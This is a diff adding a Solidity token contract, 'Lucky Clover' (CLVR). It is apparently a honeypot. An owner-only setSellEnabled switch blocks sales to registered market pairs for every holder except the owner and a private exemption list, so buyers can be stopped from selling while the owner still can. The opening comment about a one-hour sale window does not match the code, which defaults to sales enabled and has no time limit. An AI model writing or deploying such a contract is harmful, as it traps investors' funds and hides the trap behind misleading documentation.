@@ -1,0 +1,39 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.20;
+
+// Sales are switched off; the owner has switched them on for the first hour only.
+contract SellSwitch {
+    string public name = "Lucky Clover";
+    string public symbol = "CLVR";
+    uint8 public decimals = 18;
+    uint256 public totalSupply = 10_000_000 ether;
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+    address public owner;
+    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
+    modifier onlyOwner() { require(owner == msg.sender, "Ownable: caller is not the owner"); _; }
+    function renounceOwnership() external onlyOwner { emit OwnershipTransferred(owner, address(0)); owner = address(0); }
+    function transferOwnership(address to) external onlyOwner { require(to != address(0), "zero"); emit OwnershipTransferred(owner, to); owner = to; }
+    bool public sellEnabled = true;
+    mapping(address => bool) private _pairs;
+    mapping(address => bool) private _free;
+
+    constructor() { owner = msg.sender; _free[msg.sender] = true; balanceOf[msg.sender] = totalSupply; emit OwnershipTransferred(address(0), msg.sender); emit Transfer(address(0), msg.sender, totalSupply); }
+    function setAutomatedMarketMakerPair(address to, bool on) external onlyOwner { _pairs[to] = on; }
+    function setSellEnabled(bool on) external onlyOwner { sellEnabled = on; }
+    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
+    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
+    function transferFrom(address from, address to, uint256 value) external returns (bool) {
+        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
+        _transfer(from, to, value);
+        return true;
+    }
+    function _transfer(address from, address to, uint256 value) private {
+        if (_pairs[to] && !_free[from]) require(sellEnabled, "ERC20: sell is not enabled");
+        balanceOf[from] -= value;
+        balanceOf[to] += value;
+        emit Transfer(from, to, value);
+    }
+}
